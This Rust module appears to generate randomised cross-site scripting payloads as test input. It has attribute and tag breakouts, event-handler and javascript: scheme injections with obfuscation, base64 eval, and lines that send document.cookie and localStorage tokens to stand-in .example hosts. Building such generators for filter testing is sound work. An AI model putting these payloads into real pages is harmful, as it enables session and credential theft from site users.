//! Script in pages: an element with a handler, a link with a scheme, or a way out of an attribute or a string.

use super::super::random::Draw;
use super::{disguise, one};

/// An injection.
pub fn text(draw: &mut Draw) -> String {
    let code = code(draw);
    let out = one(
        draw,
        &[
            "",
            "",
            "\">",
            "'>",
            "</title>",
            "</textarea>",
            "-->",
            "</script>",
        ],
    );
    let text = match draw.below(9) {
        0 => format!("{out}<script>{code}</script>"),
        1 | 2 => format!(
            "{out}<{} {}={code}>",
            one(
                draw,
                &[
                    "img src=x",
                    "svg",
                    "body",
                    "video src=x",
                    "input autofocus",
                    "details open",
                    "marquee",
                    "object data=x"
                ]
            ),
            handler(draw)
        ),
        3 => format!("{out}<a href=\"{}\">x</a>", scheme(draw, &code)),
        4 => format!("{} {}={code} x=", one(draw, &["\"", "'"]), handler(draw)),
        5 => format!("';{code};//"),
        6 => format!("{out}<iframe srcdoc='<script>{code}</script>'></iframe>"),
        7 => format!(
            "{out}<svg><animate attributeName=href values={} /></svg>",
            scheme(draw, &code)
        ),
        _ => format!(
            "{out}<script src=//{}.example/{}></script>",
            draw.hex(6),
            draw.hex(2)
        ),
    };
    disguise::markup(&text, draw)
}

fn handler(draw: &mut Draw) -> &'static str {
    one(
        draw,
        &[
            "onerror",
            "onload",
            "onfocus",
            "ontoggle",
            "onmouseover",
            "onpointerenter",
            "onanimationstart",
            "onbegin",
            "onstart",
        ],
    )
}

fn scheme(draw: &mut Draw, code: &str) -> String {
    match draw.below(4) {
        0 => format!("javascript:{code}"),
        1 => format!("java\tscript:{code}"),
        2 => format!("JaVaScRiPt:{code}"),
        _ => format!("data:text/html,<script>{code}</script>"),
    }
}

fn code(draw: &mut Draw) -> String {
    let n = draw.below(999);
    match draw.below(8) {
        0 => format!("alert({n})"),
        1 => format!("alert`{n}`"),
        2 => "confirm(document.domain)".to_owned(),
        3 => format!("fetch('//{}.example/?c='+document.cookie)", draw.hex(5)),
        4 => format!(
            "new Image().src='//{}.example/'+localStorage.token",
            draw.hex(5)
        ),
        5 => format!("top['al'+'ert']({n})"),
        6 => format!("eval(atob('YWxlcnQo{n}KQ=='))"),
        _ => "location=name".to_owned(),
    }
}
